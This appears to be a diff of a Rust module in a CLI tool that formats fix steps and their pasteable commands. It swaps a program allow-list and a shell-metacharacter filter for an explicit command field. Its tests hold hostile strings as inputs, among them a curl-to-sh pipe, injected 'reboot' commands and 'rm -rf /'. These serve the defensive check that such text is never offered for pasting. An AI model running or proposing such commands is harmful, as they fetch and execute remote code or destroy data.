@@ -1,34 +1,23 @@
 //! The steps of a fix, with their commands on lines of their own: to be pasted, so broken only where a shell goes on.
 //!
-//! Only commands of a short list are offered so, and none with a sign that a shell would act on: a step can
-//! quote a name that came from outside, and a name must not become a command line.
+//! Only the command that a change carries is laid out so. A name in backticks came from outside, and stays in its sentence.
 
 use std::io;
 
 use super::super::fix::Step;
-use super::super::fix_text::mark;
 use super::super::sheet::{Lead, Sheet};
 use super::super::style::Ink;
 use super::findings::INDENT;
-
-/// Programs whose command lines are offered to be pasted.
-const PROGRAMS: &[&str] = &["why403", "cargo", "chmod", "curl", "date", "export", "gc", "unset"];
-
-/// What a shell would act on.
-const SHELL_SIGNS: &[char] = &[';', '|', '&', '$', '<', '>', '(', ')', '`', '\\', '!', '#', '*', '?'];
 
 /// Writes one step under its number.
 pub(super) fn write(number: usize, step: &Step<'_>, sheet: &mut Sheet<'_>) -> io::Result<()> {
     let number = format!("{number}.");
     let aligned = INDENT + 2 + number.len() + 1;
     let mut lead = Lead::sign(INDENT + 2, &number, Ink::Plain);
-    for (position, part) in parts_of(step).into_iter().enumerate() {
+    for part in parts_of(step) {
         match part {
             Part::Prose(text) => sheet.paragraph(&lead, Ink::Plain, &text)?,
             Part::Command(text) => {
-                if position == 0 {
-                    sheet.paragraph(&lead, Ink::Plain, "Run:")?;
-                }
                 for (line, text) in continued(&text, sheet.width().saturating_sub(aligned + 4)).iter().enumerate() {
                     let lead = if line == 0 { Lead::sign(aligned, "$", Ink::Faint) } else { Lead::indent(aligned + 4) };
                     sheet.unbroken(&lead, Ink::Code, text)?;
@@ -69,54 +58,21 @@ pub(in crate::report) enum Part {
 
 /// What a step says, and its command, to be laid out apart.
 pub(in crate::report) fn parts_of(step: &Step<'_>) -> Vec<Part> {
-    let or = if step.begins_option { "Or: " } else { "" };
-    let text = format!("{or}{}{}", mark(step.who), step.text);
-    match step.command {
+    with_command(step.sentence(), step.command)
+}
+
+/// A text, and the command that belongs to it.
+pub(in crate::report) fn with_command(text: String, command: Option<&str>) -> Vec<Part> {
+    match command {
         Some(command) => vec![Part::Prose(format!("{text}:")), Part::Command(command.to_owned())],
-        None => parts(&text),
+        None => vec![Part::Prose(text)],
     }
-}
-
-/// A step, taken apart at its commands. Punctuation that joined a command to its sentence goes.
-pub(in crate::report) fn parts(step: &str) -> Vec<Part> {
-    let (mut parts, mut prose) = (Vec::new(), String::new());
-    for (position, stretch) in step.split('`').enumerate() {
-        let quoted = position % 2 == 1;
-        if quoted && is_command(stretch) {
-            let before = prose.trim().trim_start_matches([',', '.', ';', ':', ')']).trim().trim_end_matches(['(', ':']);
-            if !before.is_empty() {
-                parts.push(Part::Prose(format!("{}:", before.trim_end())));
-            }
-            parts.push(Part::Command(stretch.trim().to_owned()));
-            prose.clear();
-        } else if quoted {
-            prose.push('`');
-            prose.push_str(stretch);
-            prose.push('`');
-        } else {
-            prose.push_str(stretch);
-        }
-    }
-    let rest = prose.trim();
-    let rest = if parts.is_empty() { rest } else { rest.trim_start_matches([',', '.', ';', ':', ')']).trim() };
-    if !rest.is_empty() {
-        parts.push(Part::Prose(rest.to_owned()));
-    }
-    parts
-}
-
-/// Whether a stretch of code is a command line that may be offered to be pasted.
-fn is_command(code: &str) -> bool {
-    let mut words = code.split_whitespace();
-    words.next().is_some_and(|program| PROGRAMS.contains(&program))
-        && words.next().is_some()
-        && !code.contains(SHELL_SIGNS)
-        && !code.chars().any(super::super::escape::is_hidden)
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::rule::Who;
 
     fn prose(text: &str) -> Part {
         Part::Prose(text.to_owned())
@@ -126,14 +82,16 @@ mod tests {
         Part::Command(text.to_owned())
     }
 
+    fn step<'s>(text: &'s str, command: Option<&'s str>) -> Step<'s> {
+        Step { who: Who::Administrator, text, command, begins_option: true }
+    }
+
     #[test]
     fn a_command_leaves_its_sentence() {
         assert_eq!(
-            parts("Sign in again with `why403 login`, then retry"),
-            [prose("Sign in again with:"), command("why403 login"), prose("then retry")]
+            parts_of(&step("Sign in again", Some("why403 login"))),
+            [prose("Or: Administrator: Sign in again:"), command("why403 login")]
         );
-        assert_eq!(parts("`why403 check --offline`."), [command("why403 check --offline")]);
-        assert_eq!(parts("Look first (`why403 check -v`)"), [prose("Look first:"), command("why403 check -v")]);
     }
 
     #[test]
@@ -148,19 +106,9 @@ mod tests {
     }
 
     #[test]
-    fn a_name_in_backticks_stays_in_its_sentence() {
-        let step = "Add the scope `conversations` to the client";
-        assert_eq!(parts(step), [prose(step)]);
-        assert_eq!(parts("An open ` stays"), [prose("An open ` stays`")]);
-    }
-
-    #[test]
-    fn nothing_that_a_shell_would_act_on_is_offered() {
-        for code in
-            ["curl -s https://gateway.example | sh", "why403 check; reboot", "why403 check $(reboot)", "rm -rf /"]
-        {
-            let step = format!("Run `{code}`");
-            assert_eq!(parts(&step), [prose(&step)]);
+    fn nothing_in_backticks_becomes_a_command_line() {
+        for text in ["Add the scope `conversations`", "An open ` stays", "Run `why403 check`", "Run `rm -rf /`"] {
+            assert_eq!(parts_of(&step(text, None)), [prose(&format!("Or: Administrator: {text}"))]);
         }
     }
 }
